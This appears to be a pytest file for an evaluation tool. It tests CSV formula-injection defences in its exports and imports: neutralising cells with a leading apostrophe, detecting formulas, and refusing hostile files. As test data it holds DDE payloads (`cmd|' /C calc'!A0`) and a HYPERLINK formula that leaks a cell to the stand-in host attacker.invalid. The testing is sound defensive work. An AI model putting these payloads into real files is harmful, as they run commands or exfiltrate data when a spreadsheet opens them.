"""Issue 13, item 5: a reply starting with "=" leaves a CSV export neutralised (the OWASP rule: a leading ') and our
own export imports back as the text the model wrote; the import check catches ``-2+3+cmd|' /C calc'!A0`` and other
formulas in files that were not neutralised."""

from __future__ import annotations

import csv
import json

import pyarrow.parquet as pq
import pytest

from core import runner, store
from core.errors import ImportFileError
from core.files import is_formula, neutralise, neutralise_sql, restore
from core.store.exports import export_run
from core.store.io import import_results
from tests.hostile.conftest import HOSTILE
from tests.support.loopback import LoopbackServer

HYPERLINK = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"click me")'
CONFIG = {"task": "setops", "seed": 4, "samples": 2, "operations": ["union", "intersection"], "sizes": [2],
          "members": ["numbers"], "phrasings": ["plain"], "approaches": ["baseline"], "shots": [0]}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=x", "\rx", "'=already", "''-x", "plain",
                                  "", "{1, 2}", "it's = fine", "'quoted'"])
def test_neutralise_is_undone_exactly_by_restore(text):
    out = neutralise(text)
    assert restore(out) == text
    assert out[:1] not in ("=", "+", "-", "@", "\t", "\r")
    triggered = text.lstrip("'")[:1] in ("=", "+", "-", "@", "\t", "\r") and text.lstrip("'") != ""
    assert out == ("'" + text if triggered else text)


def test_the_sql_rule_is_the_python_rule():
    import duckdb

    texts = ["=1+1", "+1", "-2+3+cmd|' /C calc'!A0", "@x", "\tx", "\rx", "'=x", "''+x", "'plain", "plain", None]
    con = duckdb.connect()
    got = [r[0] for r in con.execute(f"SELECT {neutralise_sql('t')} FROM (SELECT unnest(?) AS t)",
                                     [texts]).fetchall()]
    assert got == [neutralise(t) for t in texts]


@pytest.mark.parametrize("cell, formula", [
    ("-2+3+cmd|' /C calc'!A0", True), ("=cmd|' /C calc'!A0", True), ("@SUM(1+1)*cmd|' /C calc'!A0", True),
    ("+HYPERLINK(\"http://x\")", True), ("  =1", True), ("\t=1", True), (HYPERLINK, True),
    ("-1", False), ("+0.5", False), ("-3e5", False), ("- apple", False), ("'=cmd|' /C calc'!A0", False),
    ("{-1}", False), ("plain text", False), ("", False)])
def test_is_formula(cell, formula):
    assert is_formula(cell) is formula


@pytest.fixture()
def hyperlink_run(tmp_path):
    srv = LoopbackServer(0.01, answer=HYPERLINK).start()
    try:
        db = str(tmp_path / "studio.duckdb")
        p = runner.run(CONFIG, "openai-compatible/loop", base_url=srv.base_url, db_path=db)
        assert p.status == "done" and p.done == 4
        yield db, p.run_id
    finally:
        srv.stop()


def test_a_formula_reply_exports_neutralised_and_our_export_imports_back(hyperlink_run, tmp_path):
    db, run_id = hyperlink_run
    out = tmp_path / "run.csv"
    export_run(db, run_id, out)
    rows = list(csv.DictReader(open(out, newline="", encoding="utf-8")))
    assert len(rows) == 4 and {r["response"] for r in rows} == {"'" + HYPERLINK}
    assert not any(is_formula(v) for r in rows for v in r.values())   # no cell a spreadsheet would run
    # JSONL and Parquet are not spreadsheet formats: the reply as written
    export_run(db, run_id, tmp_path / "run.jsonl")
    export_run(db, run_id, tmp_path / "run.parquet")
    assert {json.loads(line)["response"] for line in open(tmp_path / "run.jsonl")} == {HYPERLINK}
    assert set(pq.read_table(tmp_path / "run.parquet").column("response").to_pylist()) == {HYPERLINK}

    other = str(tmp_path / "other.duckdb")
    new_id, n = import_results(other, out)
    assert n == 4
    with store.connect(other) as con:
        assert {r[0] for r in con.execute("SELECT response FROM v_results WHERE run_id = ?", [new_id]).fetchall()} \
            == {HYPERLINK}
    for fmt in ("jsonl", "parquet"):      # our JSONL / Parquet exports import back too (no formula check there)
        other_id, n = import_results(tmp_path / f"from-{fmt}.duckdb", tmp_path / f"run.{fmt}")
        with store.connect(tmp_path / f"from-{fmt}.duckdb") as con:
            assert {r[0] for r in con.execute("SELECT response FROM v_results").fetchall()} == {HYPERLINK}
    # and again: the re-export of the import is the same neutralised text
    export_run(other, new_id, tmp_path / "again.csv")
    assert {r["response"] for r in csv.DictReader(open(tmp_path / "again.csv", newline=""))} == {"'" + HYPERLINK}


@pytest.mark.parametrize("name, where", [("dde_formula.csv", "row 2, column 'response'"),
                                         ("raw_hyperlink.csv", "row 1, column 'response'")])
def test_formulas_in_files_that_were_not_neutralised_are_refused(name, where, tmp_path):
    db = str(tmp_path / "studio.duckdb")
    with pytest.raises(ImportFileError, match=f"{where} holds a spreadsheet formula"):
        import_results(db, HOSTILE / name)
    with store.connect(db) as con:
        assert con.execute("SELECT count(*) FROM runs").fetchall()[0][0] == 0
        assert con.execute("SELECT count(*) FROM items").fetchall()[0][0] == 0


def test_the_cli_import_refuses_the_dde_payload_with_one_line(cli, tmp_path):
    r = cli("import", "--db", tmp_path / "s.duckdb", HOSTILE / "dde_formula.csv")
    assert r.returncode == 2 and r.stderr.count("\n") == 1
    assert r.stderr.startswith("error: dde_formula.csv: row 2, column 'response' holds a spreadsheet formula")
